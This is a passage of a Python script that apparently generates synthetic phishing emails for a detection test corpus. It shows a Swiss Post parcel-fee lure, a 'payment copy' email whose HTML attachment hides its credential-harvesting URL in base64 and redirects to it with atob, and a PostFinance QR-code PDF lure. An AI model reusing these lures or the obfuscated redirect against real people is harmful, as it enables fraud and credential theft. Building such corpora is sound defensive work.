                "<p style=\"font-size:11px\">Microsoft rispetta la tua privacy.</p></body></html>"))


def p30_post_colis_fr() -> None:
    url = "https://poste-ch-livraison.com/suivi/" + tok("p30", 9)
    build("phish/30_swisspost_colis_fr.eml", frm="La Poste Suisse <suivi@poste-ch-livraison.com>",
          subject="Votre colis est en attente – adresse incomplète", date=dt(11, 27, 19, 2),
          msgid=mid("p30", "poste-ch-livraison.com"),
          received=[rcv("srv1.poste-ch-livraison.com", "203.0.113.11", dt(11, 27, 19, 2, 50))],
          text=("La Poste: votre colis n'a pas pu être livré en raison d'une adresse incomplète. "
                f"Mettez à jour vos informations et réglez les frais de réexpédition (CHF 1.99): {url}\n"))


def p31_htm_atob_redirect() -> None:
    dest = base64.b64encode(b"https://sso-helveticalabs.firebaseapp.com/auth?u=jonas.meier").decode()
    page = ("<html><head><meta charset=\"utf-8\"></head><body><p>Loading PDF preview, please wait...</p>"
            f"<script>var u=\"{dest}\";setTimeout(function(){{window.location.replace(atob(u));}},800);</script></body></html>")
    build("phish/31_htm_redirect_payment_copy.eml", frm="Luca Keller <luca.keller@helvetica-labs.example>",
          subject="Zahlungskopie – bitte bestätigen", date=dt(11, 27, 12, 31),
          msgid=mid("p31", "mail-relay-smtp.com"),
          received=[rcv("host-203-0-113-222.mail-relay-smtp.com", "203.0.113.222", dt(11, 27, 12, 31, 55))],
          extra=[("Reply-To", "Luca Keller <luca.keller.cfo@proton.me>")],
          text="Hallo Jonas, anbei die Zahlungskopie. Bitte öffnen und bestätigen. Gruss Luca\n",
          attachments=[(page.encode(), "text", "html", "Zahlungskopie_HL-2026-11.htm")])


def p32_qr_in_pdf_postfinance_it() -> None:
    qr = qr_png("https://pf-verifica-app.com/it/?id=" + tok("p32", 10), 3)
    att = pdf(["PostFinance", "", "Aggiornamento di sicurezza obbligatorio", "",
               "Gentile cliente, entro il 30.11.2026 deve riattivare l'app PostFinance.",
               "Scansioni il codice QR qui sotto con il suo smartphone.",
               "Senza riattivazione l'accesso a e-finance sara bloccato."], qr, title="avviso")
    build("phish/32_postfinance_qr_pdf_it.eml", frm="PostFinance <avviso@pf-verifica-app.com>",
          subject="Avviso importante sul suo conto", date=dt(11, 21, 7, 44),
          msgid=mid("p32", "pf-verifica-app.com"),
          received=[rcv("mail.pf-verifica-app.com", "203.0.113.77", dt(11, 21, 7, 44, 10))],
          text="Gentile cliente,\n\nin allegato trova un avviso importante. La preghiamo di leggerlo entro 48 ore.\n\nPostFinance SA\n",
          attachments=[(att, "application", "pdf", "Avviso_PostFinance.pdf")],
          )


ALL: list[Callable[[], None]] = [f for n, f in sorted(globals().items()) if n.startswith("p") and n[1:3].isdigit() and callable(f)]
